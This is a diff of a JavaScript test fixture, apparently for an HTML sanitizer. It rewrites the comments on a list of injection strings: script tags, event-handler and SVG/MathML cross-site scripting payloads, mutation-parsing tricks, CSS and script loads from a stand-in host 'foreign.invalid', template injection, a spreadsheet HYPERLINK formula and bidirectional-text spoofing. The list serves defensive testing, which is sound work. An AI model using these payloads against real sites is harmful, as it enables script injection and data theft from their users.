@@ -1,30 +1,30 @@
-/** Runs when a text becomes code: sets the marker that the story looks for. */
+/** Sets a marker if a text is executed as code. */
 const RUN = 'globalThis.pennantRan=1'
-/** No text may bring a browser to ask for anything here. */
+/** No text may make a browser send a request to this host. */
 export const foreignHost = 'foreign.invalid'
 
 /**
- * One or more texts of each known class of what has become code, style or a request on other sites. They stand wherever
- * somebody may write.
+ * One or more texts for each known class of injection: code, styles and requests to other sites. They are used in every
+ * user-supplied field.
  */
 export const hostileTexts: readonly string[] = [
-  // Elements that run by themselves.
+  // Elements that run automatically.
   `<script>${RUN}</script>`,
   `"><script src=//${foreignHost}/a.js></script>`,
   `</textarea></title></style></script><script>${RUN}</script>`,
   `<iframe srcdoc="<script>parent.pennantRan=1</script>"></iframe><object data=//${foreignHost}></object>`,
   `<base href=//${foreignHost}/><meta http-equiv=refresh content="0;url=//${foreignHost}">`,
-  // Handlers.
+  // Event handlers.
   `<img src=x onerror=${RUN}>`,
   `'"><img src=x onerror=${RUN}>`,
   `<details open ontoggle=${RUN}><summary>s</summary></details>`,
   `<input autofocus onfocus=${RUN}><video><source onerror=${RUN}></video>`,
   `<body onload=${RUN}><marquee onstart=${RUN}>m</marquee>`,
-  // Other vocabularies.
+  // SVG and MathML.
   `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
   `<svg><a xlink:href="javascript:${RUN}"><text y=20>t</text></a><use href=//${foreignHost}/s.svg#a /></svg>`,
   `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
-  // Parsed twice in two ways.
+  // Parsed twice, with different results.
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<template><script>${RUN}</script></template><svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
@@ -38,15 +38,15 @@ export const hostileTexts: readonly string[] = [
   `<style>@import "//${foreignHost}/a.css";*{background:url(//${foreignHost}/b)}</style>`,
   `<div style="position:fixed;inset:0;background:url(//${foreignHost}/c);width:9999px">over</div>`,
   `<link rel=stylesheet href=//${foreignHost}/d.css><p class="pn-locked pn-header" id=root>x</p>`,
-  // Templates and formats of other programs.
+  // Template and format syntax of other programs.
   `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{7*7}`,
   '=HYPERLINK("http://foreign.invalid","x")',
-  // Names that objects have already.
+  // Names of built-in object properties.
   '__proto__',
   'constructor',
   'toString',
   '<img name=getElementById><form id=documentElement><input name=attributes></form>',
-  // Letters.
+  // Special characters.
   `\u202eexe.tfosorciM\u202c \u2066\u2067rtl\u2069`,
   'W'.repeat(300),
   `Z\u0351\u036b\u0343\u036a\u0302\u036b${'\u0351\u036b'.repeat(60)}a`,
